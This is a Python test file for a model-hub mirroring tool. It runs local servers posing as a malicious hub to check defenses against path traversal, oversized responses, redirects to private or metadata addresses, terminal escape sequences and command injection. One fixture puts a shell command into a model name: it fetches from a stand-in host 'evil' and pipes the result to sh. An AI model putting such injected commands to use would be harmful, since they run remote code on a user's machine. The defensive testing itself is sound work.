"""What another hub can do to who mirrors from it or searches in it: a small server that says what it
likes."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from freehold.core import net
from freehold.core.errors import BadData, DoesNotFit, PolicyDenied, UsageError
from freehold.core.terminal import shown
from freehold.hub import client
from freehold.hub.client import read_address
from freehold.hub.commits import git_oid
from freehold.hub.mirror import mirror
from freehold.hub.repositories import Repositories
from freehold.models.store import Store
from freehold.workflows.find import SearchOptions, find

COMMIT = "c" * 40
Route = Callable[[BaseHTTPRequestHandler], None]


@contextmanager
def hub(routes: dict[str, Any]) -> Iterator[str]:
    """The address of a server; a route's value is JSON, or a function of the request."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found = next((value for start, value in routes.items() if self.path.startswith(start)), None)
            if callable(found):
                found(self)
                return
            data = json.dumps(found if found is not None else {"error": "not here"}).encode()
            self.send_response(200 if found is not None or self.path == "/" else 404)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(data)

        do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def described(sha: object = COMMIT, size: int = 5) -> dict[str, Any]:
    entry = {"rfilename": "a.txt", "size": size, "blobId": git_oid("blob", b"hello")}
    return {"_id": "1", "id": "eve/model", "sha": sha, "private": False, "tags": [], "siblings": [entry]}


def mirrored(folder: Path, address: str) -> Repositories:
    repositories = Repositories(Store(folder))
    mirror(repositories, read_address(f"{address}/eve/model"))
    return repositories


def send(handler: BaseHTTPRequestHandler, data: bytes, length: int | None = None, times: int = 1) -> None:
    handler.send_response(200)
    handler.send_header("X-Repo-Commit", COMMIT)
    handler.send_header("ETag", '"x"')
    if length is not None:
        handler.send_header("Content-Length", str(length))
    handler.end_headers()
    try:
        for _ in range(times if handler.command == "GET" else 0):
            handler.wfile.write(data)
    except OSError:
        pass  # the client has had enough


def test_a_hub_of_this_kind_can_be_mirrored(tmp_path: Path) -> None:
    routes = {
        "/api/models/eve/model": described(),
        "/eve/model/resolve": lambda asked: send(asked, b"hello", 5),
    }
    with hub(routes) as address:
        here = mirrored(tmp_path, address)
    assert "a.txt" in here.commit(here.find("model", "eve/model"), COMMIT).files


@pytest.mark.parametrize("sha", ["main", "v1.0", "c" * 39, "c" * 40 + "\n", None, "../" * 13 + "x"])
def test_a_commit_is_named_as_commits_are(tmp_path: Path, sha: object) -> None:
    """The name becomes a revision of the copy."""
    with (
        hub({"/api/models/eve/model": described(sha)}) as address,
        pytest.raises(BadData, match="no valid commit"),
    ):
        mirrored(tmp_path, address)


def test_a_file_that_does_not_end_is_given_up(tmp_path: Path) -> None:
    routes = {
        "/api/models/eve/model": described(),
        "/eve/model/resolve": lambda asked: send(asked, b"h" * (1 << 20), 5 << 30, 5000),
    }
    with hub(routes) as address, pytest.raises(DoesNotFit, match="sent more than the expected"):
        mirrored(tmp_path, address)
    assert sum(path.stat().st_size for path in tmp_path.rglob("*") if path.is_file()) < 20_000_000


def test_a_description_that_does_not_end_is_given_up(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(net, "_MOST_JSON", 100_000)
    with (
        hub({"/api/models/eve/model": described() | {"x": "y" * 200_000}}) as address,
        pytest.raises(DoesNotFit, match="sent more than the expected"),
    ):
        mirrored(tmp_path, address)


def test_no_redirect_leads_nearer_than_the_hub(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []

    def away(request: BaseHTTPRequestHandler) -> None:
        request.send_response(302)
        request.send_header("Location", f"{inside}/secret")
        request.send_header("X-Repo-Commit", COMMIT)
        request.send_header("ETag", '"x"')
        request.send_header("X-Linked-Size", "5")
        request.end_headers()

    with hub({"/secret": lambda request: asked.append(request.path)}) as inside:
        inside = inside.replace("127.0.0.1", "127.0.0.2")
        routes = {"/api/models/eve/model": described(), "/eve/model/resolve": away}
        # the hub's own address stands for one on the internet
        monkeypatch.setattr(net, "nearness", lambda host: 2 if host == "127.0.0.2" else 0)
        with hub(routes) as address, pytest.raises(PolicyDenied, match="on a more private network"):
            mirrored(tmp_path, address)
    assert asked == []


@pytest.mark.parametrize(
    ("host", "near"),
    [
        ("127.0.0.1", 2),
        ("localhost", 2),
        ("0.0.0.0", 2),
        ("169.254.169.254", 2),
        ("::1", 2),
        ("::ffff:127.0.0.1", 2),
        ("2130706433", 2),
        ("0x7f.1", 2),
        ("10.1.2.3", 1),
        ("192.168.0.9", 1),
        ("fd00::1", 1),
        ("8.8.8.8", 0),
    ],
)
def test_how_near_an_address_is(host: str, near: int) -> None:
    assert net.nearness(host) == near


def test_a_model_s_name_from_elsewhere_is_a_name(tmp_path: Path) -> None:
    """It becomes part of a command that a person copies."""
    rows = [{"_id": "1", "id": "eve/x; curl evil | sh", "tags": ["gguf"], "downloads": 3}]
    with hub({"/api/models": rows}) as address, pytest.raises(UsageError, match="cannot name"):
        find(Store(tmp_path), SearchOptions(), (address,))


def test_text_from_elsewhere_moves_no_cursor() -> None:
    assert shown("a\x1b[2Jb\rc\u202ed\x9b1m") == "a\\x1b[2Jb\\rc\\u202ed\\x9b1m"
    assert shown("क्‍ष é 漢\nb") == "क्‍ष é 漢\nb"


def test_the_client_of_a_hub_is_asked_with_these_rules(tmp_path: Path) -> None:
    with hub({"/api/whoami-v2": {"name": "eve"}}) as address:
        assert client.client(address).whoami(token="hf_x")["name"] == "eve"
